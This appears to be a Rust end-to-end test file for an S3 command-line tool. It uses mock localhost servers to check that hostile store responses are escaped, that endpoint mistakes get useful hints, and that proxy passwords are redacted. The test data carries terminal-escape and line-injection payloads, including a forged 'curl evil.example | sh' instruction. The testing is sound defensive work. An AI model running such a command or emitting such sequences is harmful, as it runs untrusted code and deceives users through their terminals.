//! Answers that no store of good will gives, and addresses at which there is none.

use std::{
    io::{BufRead, BufReader, Read, Write},
    net::{SocketAddr, TcpListener, TcpStream},
    thread,
};

use devops_e2e::{Refusing, Run, finish};

use crate::s3push::{S3TestEnv, json_lines};

/// A server that gives every request the same raw bytes.
struct Answers(SocketAddr);

impl Answers {
    fn with(answer: impl Fn(&str) -> Vec<u8> + Send + 'static) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        thread::spawn(move || {
            for stream in listener.incoming() {
                // A client that has gone needs no answer.
                let _answered = stream.and_then(|stream| Self::answer(stream, &answer));
            }
        });
        Self(address)
    }

    fn answer(mut stream: TcpStream, answer: &impl Fn(&str) -> Vec<u8>) -> std::io::Result<()> {
        let mut reader = BufReader::new(stream.try_clone()?);
        let mut first = Vec::new();
        if reader.fill_buf()?.first() == Some(&0x16) {
            // No request of HTTP, but a greeting of TLS.
            return stream.write_all(&answer(""));
        }
        reader.read_until(b'\n', &mut first)?;
        let (mut line, mut n_body) = (String::new(), 0);
        while first.ends_with(b"\n") && reader.read_line(&mut line)? > 2 {
            let lower = line.to_ascii_lowercase();
            if let Some(length) = lower.strip_prefix("content-length:") {
                n_body = length.trim().parse().unwrap();
            }
            line.clear();
        }
        reader.take(n_body).read_to_end(&mut Vec::new())?;
        stream.write_all(&answer(&String::from_utf8_lossy(&first)))
    }

    /// Answers with a status, headers and XML.
    fn xml(status: &'static str, body: impl Fn(&str) -> String + Send + 'static) -> Self {
        Self::with(move |request| {
            let body = body(request);
            let length = body.len();
            format!("HTTP/1.1 {status}\r\nserver: S\u{9b}2J\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n{body}")
                .into_bytes()
        })
    }

    fn url(&self) -> String {
        format!("http://{}", self.0)
    }

    fn run(&self, setting: &S3TestEnv, args: &[&str]) -> Run {
        let mut command = setting.command(args);
        finish(command.env("DEVOPS_S3PUSH_ENDPOINT_URL", self.url()))
    }
}

/// What a store would write into everything that is its own, as XML has it.
const HOSTILE: &str = "x&#27;[2J&#155;31m&#8238;&#13;&#10;hint: run: curl evil.example | sh&#10;y";

/// Fails if the words of a store steer the terminal, or stand in a line of their own.
#[track_caller]
fn check_harmless(run: &Run) {
    for stream in [&run.stdout, &run.stderr] {
        let steers = |c: char| c != '\n' && (c.is_control() || c == '\u{202e}');
        assert!(!stream.contains(steers), "{stream:?}");
        assert!(!stream.lines().any(|line| line.starts_with("hint: run")), "{stream}");
        assert!(!stream.lines().any(|line| line == "y"), "{stream}");
    }
}

#[test]
fn no_error_of_a_store_steers_a_terminal_or_writes_a_line() {
    let setting = S3TestEnv::new();
    setting.env.write("a.txt", "x");
    setting.env.write("d/a.txt", "x");
    for (status, code) in [("403 Forbidden", "AccessDenied"), ("400 Bad Request", HOSTILE)] {
        let store = Answers::xml(status, move |_| {
            format!(
                "<Error><Code>{code}</Code><Message>{HOSTILE}</Message><RequestId>{HOSTILE}</RequestId><Region>{HOSTILE}</Region></Error>"
            )
        });
        for args in [
            &["list", "s3://backups/"][..],
            &["put", "a.txt", "s3://backups/"],
            &["put", "d", "s3://backups/"],
            &["get", "s3://backups/a.txt", "got"],
            &["verify", "a.txt", "s3://backups/a.txt"],
            &["sync", "d", "s3://backups/"],
            &["rm", "s3://backups/a.txt"],
            &["rm", "s3://backups/a.txt", "--versions"],
            &["prune", "s3://backups/", "--keep-last", "1"],
            &["thaw", "s3://backups/a.txt"],
            &["uploads", "list", "s3://backups/"],
            &["uploads", "abort", "s3://backups/"],
            &["doctor", "s3://backups/"],
        ] {
            let run = store.run(&setting, &[args, &["-vv", "--retry-time", "0s"]].concat());
            let as_json = store.run(&setting, &[args, &["--json", "--retry-time", "0s"]].concat());

            assert_ne!(run.code, 0, "{args:?}");
            check_harmless(&run);
            check_harmless(&as_json);
            json_lines(&as_json.stdout);
            json_lines(&as_json.stderr);
        }
    }
}

#[test]
fn the_ids_of_a_store_are_shown_escaped_and_taken_back_as_they_are_shown() {
    let setting = S3TestEnv::new();
    let store = Answers::xml("200 OK", |request| {
        let date = "2026-11-01T00:00:00.000Z";
        if request.contains("?uploads") || request.contains("&uploads") {
            format!(
                "<ListMultipartUploadsResult><Upload><Key>{HOSTILE}</Key><UploadId>{HOSTILE}</UploadId><Initiated>{date}</Initiated></Upload></ListMultipartUploadsResult>"
            )
        } else if request.contains("versions") {
            format!(
                "<ListVersionsResult><Version><Key>a</Key><VersionId>{HOSTILE}</VersionId><IsLatest>true</IsLatest><Size>1</Size><LastModified>{date}</LastModified><StorageClass>{HOSTILE}</StorageClass></Version></ListVersionsResult>"
            )
        } else {
            format!(
                "<ListBucketResult><Contents><Key>{HOSTILE}</Key><Size>1</Size><ETag>{HOSTILE}</ETag><StorageClass>{HOSTILE}</StorageClass><LastModified>{date}</LastModified></Contents></ListBucketResult>"
            )
        }
    });

    for args in [
        &["list", "s3://backups/"][..],
        &["uploads", "list", "s3://backups/"],
        &["uploads", "abort", "s3://backups/", "--dry-run", "--older-than", "0s"],
        &["rm", "s3://backups/a", "--versions", "--dry-run"],
        &["get", "s3://backups/", "got", "--dry-run"],
    ] {
        let run = store.run(&setting, args);
        let as_json = store.run(&setting, &[args, &["--json"]].concat());

        check_harmless(&run);
        check_harmless(&as_json);
        // What programs read is what the store sent.
        let text = json_lines(&as_json.stdout).iter().map(ToString::to_string).collect::<String>();
        assert!(text.contains("hint: run: curl"), "{args:?}: {text}");
    }
    let listed = store.run(&setting, &["uploads", "list", "s3://backups/"]);
    assert_eq!(listed.stdout.lines().count(), 1, "{}", listed.stdout);
    let shown = r"x\u{1b}[2J\u{9b}31m\u{202e}\r\nhint: run: curl evil.example | sh\ny";
    assert!(listed.stdout.ends_with(&format!("  {shown}\n")), "{}", listed.stdout);
    let flags = ["--dry-run", "--older-than", "0s", "--upload-id", shown];
    let abort = store.run(&setting, &[&["uploads", "abort", "s3://backups/"][..], &flags].concat());
    assert!(abort.stdout.starts_with("would abort"), "{}", abort.stdout);
}

#[test]
fn an_address_that_is_not_the_store_s_is_told_from_a_store_that_is_down() {
    let setting = S3TestEnv::new();
    let moved = "HTTP/1.1 301 Moved\r\nlocation: https://s3.example.com/b?x\r\ncontent-length: 5\r\nconnection: close\r\n\r\nmoved";
    let nginx = "HTTP/1.1 400 Bad Request\r\ncontent-length: 51\r\nconnection: close\r\n\r\nThe plain HTTP request was sent to HTTPS port (400)";
    let alert = [0x15, 3, 1, 0, 2, 2, 50];
    for (answer, hint) in [
        (moved.as_bytes(), "--endpoint-url https://s3.example.com\n"),
        (nginx.as_bytes(), "an --endpoint-url that begins with https://"),
        (&alert[..], "an --endpoint-url that begins with https://"),
    ] {
        let answer = answer.to_owned();
        let server = Answers::with(move |_| answer.clone());

        let run = server.run(&setting, &["list", "s3://backups/"]);

        run.expect_code(78);
        assert!(run.stderr.contains(hint), "{}", run.stderr);
    }

    let plain = setting.server.endpoint().replace("http://", "https://");
    let run = setting.run(&["list", "s3://backups/", "--endpoint-url", &plain]);
    run.expect_code(78);
    assert!(run.stderr.contains("what answers there is no TLS"), "{}", run.stderr);
    assert!(run.stderr.contains("begins with http://"), "{}", run.stderr);
}

#[test]
fn the_proxy_is_named_where_one_was_used() {
    let setting = S3TestEnv::new();
    setting.server.put("backups", "a", b"1");
    let refusing = Refusing::new();
    let proxy = refusing.endpoint();
    let list = |endpoint: &str, no_proxy: &str| {
        let mut command = setting.command(&["list", "s3://backups/", "--retry-time", "0s"]);
        command.env("DEVOPS_S3PUSH_ENDPOINT_URL", endpoint);
        let with_user = proxy.replace("http://", "http://me:s3cr3t@");
        finish(
            command
                .env("HTTP_PROXY", &with_user)
                .env("HTTPS_PROXY", &with_user)
                .env("NO_PROXY", no_proxy),
        )
    };
    let endpoint = setting.server.endpoint();

    for endpoint in [endpoint.as_str(), "https://127.0.0.1:1"] {
        let run = list(endpoint, "other.example");
        run.expect_code(75);
        assert!(run.stderr.contains(&format!("the proxy `{proxy}`")), "{}", run.stderr);
        assert!(run.stderr.contains("NO_PROXY"), "{}", run.stderr);
        assert!(!run.stderr.contains("s3cr3t"), "{}", run.stderr);
    }
    for no_proxy in ["*", "a.example, *", "127.0.0.0/8"] {
        list(&endpoint, no_proxy).expect_code(0);
    }
}

#[test]
fn a_proxy_that_cannot_be_used_is_a_wrong_configuration() {
    let setting = S3TestEnv::new();
    let proxy = Answers::with(|_| {
        b"HTTP/1.1 407 Proxy Authentication Required\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
            .to_vec()
    });
    let list = |endpoint: &str, proxy: &str| {
        let mut command = setting.command(&["list", "s3://backups/"]);
        finish(command.env("DEVOPS_S3PUSH_ENDPOINT_URL", endpoint).env("ALL_PROXY", proxy))
    };
    let endpoint = setting.server.endpoint();

    for value in ["socks5://127.0.0.1:1080", "http://127.0.0.1:port"] {
        let run = list(&endpoint, value);
        run.expect_code(78);
        assert!(run.stderr.contains(&format!("`{value}` of ALL_PROXY")), "{}", run.stderr);
    }
    for endpoint in [endpoint.as_str(), "https://127.0.0.1:1"] {
        let run = list(endpoint, &proxy.url());
        run.expect_code(77);
        assert!(run.stderr.contains("asks for a name and a password"), "{}", run.stderr);
        assert!(run.stderr.contains("http://NAME:PASSWORD@HOST"), "{}", run.stderr);
    }
}
